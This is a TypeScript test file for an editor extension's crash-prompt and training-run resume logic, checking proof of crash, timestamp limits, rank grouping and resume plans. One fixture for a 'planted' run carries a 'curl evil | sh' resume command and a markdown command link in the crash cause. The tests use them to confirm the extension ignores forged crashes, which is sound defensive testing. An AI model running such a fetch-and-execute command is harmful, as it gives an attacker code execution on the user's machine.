import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type CrashMemory, confirmationKey, crashesToAsk, crashKey, FUTURE_TOLERANCE_SECONDS, heldLocks, lastHeard, lastResumableRun,
  MAX_CRASH_AGE_SECONDS, resumePlan,
} from '../../../extension/src/crashes';
import type { RunInfo } from '../../../extension/src/protocol';
import { run } from './fixtures';

const now = 1764400000 + 60;
const crashed = run({ state: 'crashed', alive: false, dir: '/ws2/runs/brats', config: '/ws2/config/safe_training.json',
  crashProof: 'witnessed' });
const empty: CrashMemory = { answered: [], neverAsk: [] };
const asked = (runs: RunInfo[], memory = empty, at = now) => crashesToAsk(runs, memory, at).map((c) => c.run.name);

describe('crash prompts', () => {
  it('asks about a recent proved crash until it is answered', () => {
    const [crash] = crashesToAsk([crashed], empty, now);
    assert.ok(crash);
    assert.deepEqual(crash.keys, [crashKey(crashed)]);
    assert.equal(crash.proof, 'witnessed');
    assert.deepEqual(asked([crashed], { answered: [crashKey(crashed)], neverAsk: [] }), []);
    // The same run crashing again later (another pid or step) is a new crash.
    assert.deepEqual(asked([{ ...crashed, pid: 999 }], { answered: [crashKey(crashed)], neverAsk: [] }), ['brats-safe']);
    assert.deepEqual(asked([{ ...crashed, crashProof: 'supervisor' }]), ['brats-safe']);
  });
  it('never asks about a crash that only a file claims (no proof: issue 21, class 3)', () => {
    // A planted run: a dead pid, state "crashed", an attacker's cause and resume command — and no proof.
    const planted = run({ state: 'crashed', alive: false, dir: '/ws/runs/planted', crashProof: null,
      exitCause: '[Resume now](command:workbench.action.terminal.sendSequence)',
      resumeCommand: { argv: ['/bin/sh', '-c', 'curl evil | sh'], cwd: '/' } });
    assert.deepEqual(asked([planted]), []);
  });
  it('refuses timestamps in the future, and the age cap retires every crash', () => {
    const future = { ...crashed, updated: now + FUTURE_TOLERANCE_SECONDS + 1 };
    assert.equal(lastHeard(future, now), null);
    assert.deepEqual(asked([future]), []);
    // A future `started` beside a plausible `updated` is just as much a lie.
    assert.deepEqual(asked([{ ...crashed, started: now + 3600 * 24 * 365 }]), []);
    assert.deepEqual(asked([crashed], empty, (crashed.updated ?? 0) + MAX_CRASH_AGE_SECONDS + 1), []);
    assert.deepEqual(asked([{ ...crashed, updated: null, started: null }]), []);
    // Within the clock tolerance it is still asked.
    assert.deepEqual(asked([{ ...crashed, updated: now + FUTURE_TOLERANCE_SECONDS - 1 }]), ['brats-safe']);
  });
  it('never asks about runs the user excluded, live runs, or runs that did not crash', () => {
    assert.deepEqual(asked([crashed], { answered: [], neverAsk: [crashed.dir] }), []);
    assert.deepEqual(asked([{ ...crashed, state: 'running', alive: true }]), []);
    assert.deepEqual(asked([{ ...crashed, state: 'stopped' }]), []);
  });
  it('asks once per run: the ranks of one run are one crash, answered whichever rank was reported', () => {
    const ranks = [0, 1, 2, 3].map((rank) => ({ ...crashed, rank, worldSize: 4, pid: 100 + rank }));
    const crashes = crashesToAsk(ranks, empty, now);
    assert.equal(crashes.length, 1);
    assert.equal(crashes[0]?.run.rank, 0);
    assert.equal(crashes[0].keys.length, 4);
    // The live event named rank 2 and the user answered it: the whole run is answered.
    const answered = crashesToAsk([ranks[2]!], empty, now).flatMap((c) => c.keys);
    assert.deepEqual(asked(ranks, { answered, neverAsk: [] }), []);
    // A rank still alive: the run has not crashed (yet).
    assert.deepEqual(asked([ranks[0]!, { ...ranks[1]!, alive: true, state: 'running' }]), []);
  });
  it('many crashes are listed together, most recent first', () => {
    const many = Array.from({ length: 5 }, (_, i) => ({ ...crashed, name: `r${i}`, dir: `/ws/runs/r${i}`, updated: now - 100 + i }));
    assert.deepEqual(asked(many), ['r4', 'r3', 'r2', 'r1', 'r0']);
  });
});

describe('Resume Last Run', () => {
  const at = (name: string, extra: Partial<RunInfo>) => run({ name, dir: `/ws/runs/${name}`, alive: false, started: 1, ...extra });
  it('picks the most recently updated run that ended badly and can be resumed', () => {
    const runs = [
      at('live', { alive: true, state: 'running', updated: 50 }),
      at('old', { state: 'crashed', updated: 10 }),
      at('new', { state: 'stopped', updated: 20 }),
      at('done', { state: 'finished', updated: 30 }),
      at('noconfig', { state: 'crashed', updated: 40, config: null }),
      at('recorded', { state: 'crashed', updated: 15, config: null,
        resumeCommand: { argv: ['/py', 'train.py', '--resume'], cwd: '/ws' } }),
    ];
    assert.equal(lastResumableRun(runs, now)?.name, 'new');
    assert.equal(lastResumableRun([runs[0]!], now), undefined);
  });
  it('never prefers an unproved or future-dated run to a proved crash', () => {
    const proved = at('mine', { state: 'crashed', updated: now - 3600, crashProof: 'witnessed' });
    const planted = at('planted', { state: 'crashed', updated: now - 10, crashProof: null,
      resumeCommand: { argv: ['/bin/sh', '-c', 'evil'], cwd: '/' } });
    const future = at('future', { state: 'crashed', updated: now + 10 ** 9, crashProof: 'witnessed' });
    assert.equal(lastResumableRun([planted, proved, future], now)?.name, 'mine');
    assert.equal(lastResumableRun([future], now), undefined);
    // Without any proved crash, the most recent unproved one (its command is shown before anything runs).
    assert.equal(lastResumableRun([planted, future], now)?.name, 'planted');
  });
  it('offers one run per run folder (its lowest rank), none while a rank is alive', () => {
    const r0 = at('ddp', { state: 'crashed', rank: 0, worldSize: 2, updated: now - 5 });
    const r1 = { ...r0, rank: 1, pid: 2 };
    assert.equal(lastResumableRun([r1, r0], now)?.rank, 0);
    assert.equal(lastResumableRun([r0, { ...r1, alive: true, state: 'running' }], now), undefined);
  });
});

describe('resume', () => {
  const folderOf = (p: string) => (p.startsWith('/ws2/') ? '/ws2' : undefined);
  it('runs the command the run recorded, in its cwd (contract 9)', () => {
    const plan = resumePlan({ ...crashed, resumeCommand: { argv: ['/ws2/.venv/bin/python', 'train.py', '--resume', 'last'],
      cwd: '/ws2/src' } }, folderOf);
    assert.deepEqual(plan, { kind: 'recorded', argv: ['/ws2/.venv/bin/python', 'train.py', '--resume', 'last'], cwd: '/ws2/src' });
  });
  it('falls back to train --resume auto in the run\'s own workspace folder', () => {
    const plan = resumePlan(crashed, folderOf);
    if (plan.kind !== 'train') assert.fail(`expected a train plan, got ${plan.kind}`);
    assert.equal(plan.cwd, '/ws2');
    assert.equal(plan.definition.runsDir, '/ws2/runs');
  });
  it('cannot resume what recorded neither a command nor a config', () => {
    assert.equal(resumePlan({ ...crashed, config: null }, folderOf).kind, 'none');
  });
  it('asks again when the command, its folder or the run changed since it was confirmed', () => {
    const confirmed = confirmationKey('/ws/runs/a', { argv: ['/py', 'train.py'], cwd: '/ws' });
    assert.equal(confirmationKey('/ws/runs/a', { argv: ['/py', 'train.py'], cwd: '/ws' }), confirmed);
    for (const other of [confirmationKey('/ws/runs/a', { argv: ['/bin/sh', '-c', 'x'], cwd: '/ws' }),
      confirmationKey('/ws/runs/a', { argv: ['/py', 'train.py'], cwd: '/' }),
      confirmationKey('/ws/runs/b', { argv: ['/py', 'train.py'], cwd: '/ws' }),
      // no way to make two commands one key with separators inside the values
      confirmationKey('/ws/runs/a', { argv: ['/py train.py'], cwd: '/ws' })]) {
      assert.notEqual(other, confirmed);
    }
  });
});

describe('a run lock held by a stray process (RunInfo.lockHolder)', () => {
  it('names each rank\'s holder once, lowest rank first, and nothing when none holds a lock', () => {
    const rank = (n: number, holder: RunInfo['lockHolder']): RunInfo => ({ ...crashed, rank: n, worldSize: 3, lockHolder: holder });
    assert.deepEqual(heldLocks([rank(0, null), rank(1, null)]), []);
    const stray = { pid: 4243, command: 'python train.py' };
    assert.deepEqual(heldLocks([rank(2, { pid: 77, command: 'x' }), rank(0, stray), rank(0, stray), rank(1, null)]), [
      { rank: 0, pid: 4243, command: 'python train.py' },
      { rank: 2, pid: 77, command: 'x' },
    ]);
  });
});
